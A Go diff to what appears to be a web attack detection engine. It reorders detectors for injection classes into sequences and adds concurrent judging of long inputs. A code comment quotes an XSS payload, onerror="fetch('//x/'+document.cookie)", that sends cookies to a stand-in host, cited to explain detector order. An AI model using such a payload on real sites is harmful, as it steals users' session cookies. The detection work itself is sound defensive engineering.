@@ -44,6 +44,7 @@ type Engine struct {
 	minScore      int
 	maxBytes      int
 	paranoia      int
+	splitMin      int // texts this long are judged on two cores (judgeConcurrently)
 	scratch       sync.Pool
 }
 
@@ -65,6 +66,7 @@ func New(opts Options) *Engine {
 		e.maxBytes = 1 << 20
 	}
 	e.paranoia = min(max(opts.Paranoia, 1), MaxParanoia)
+	e.splitMin = splitMinBytes
 	e.scratch.New = func() any { return new(scratch) }
 	return e
 }
@@ -130,10 +132,8 @@ func (in *input) emit(c Class, rule string, score int, off, end int) {
 	if e.disabledClass[c] || e.disabledRule[rule] || score < e.minScore {
 		return
 	}
-	for i := in.base; i < len(in.dst); i++ {
-		if in.dst[i].Class == c && in.dst[i].Rule == rule {
-			return // one signal per rule per value is enough evidence
-		}
+	if in.emitted(c, rule) {
+		return // one signal per rule per value is enough evidence
 	}
 	loc := in.v.Location
 	if in.isKey && !in.v.IsKey {
@@ -332,69 +332,22 @@ func (in *input) judge() {
 	// Detectors run most specific first; a certain finding
 	// (score >= 8) ends the judgement of this value, which bounds the work
 	// per value when a flood of attack values arrives.
-	// (Direct calls, not a slice of method values: those would make the
-	// input escape to the heap on every value.)
-	if in.detectJNDI(); in.certain() {
+	sequence := sqlFirst[:]
+	if m.has(bLT) && html.ElementOpen(in.lower()) {
+		// A value holding an HTML element is read as HTML first: the
+		// quotes and "+" of an attribute such as
+		// onerror="fetch('//x/'+document.cookie)" fingerprint as SQL,
+		// but the sink they attack is the page.
+		sequence = htmlFirst[:]
+	}
+	if len(in.text) >= in.e.splitMin && splitWorthwhile() {
+		in.judgeConcurrently(sequence)
 		return
 	}
-	if in.detectXXE(); in.certain() {
-		return
-	}
-	if in.detectSSTI(); in.certain() {
-		return
-	}
-	if in.detectNoSQL(); in.certain() {
-		return
-	}
-	if in.detectLDAP(); in.certain() {
-		return
-	}
-	if in.detectHeaderInjection(); in.certain() {
-		return
-	}
-	if in.detectSSI(); in.certain() {
-		return
-	}
-	if in.detectXPath(); in.certain() {
-		return
-	}
-	if in.detectSessionFixation(); in.certain() {
-		return
-	}
-	// A value holding an HTML element is read as HTML first: the quotes
-	// and "+" of an attribute such as onerror="fetch('//x/'+document.cookie)"
-	// fingerprint as SQL, but the sink they attack is the page.
-	htmlFirst := m.has(bLT) && html.ElementOpen(in.lower())
-	if htmlFirst {
-		if in.detectXSS(); in.certain() {
+	for _, d := range sequence {
+		if in.run(d); in.certain() {
 			return
 		}
-	}
-	if in.detectSQLi(); in.certain() {
-		return
-	}
-	if !htmlFirst {
-		if in.detectXSS(); in.certain() {
-			return
-		}
-	}
-	if in.detectCmd(); in.certain() {
-		return
-	}
-	if in.detectPath(); in.certain() {
-		return
-	}
-	if in.detectURL(); in.certain() {
-		return
-	}
-	if in.detectCode(); in.certain() {
-		return
-	}
-	if in.detectOAST(); in.certain() {
-		return
-	}
-	if in.v.Part == event.PartPath {
-		in.detectProbe()
 	}
 }
 
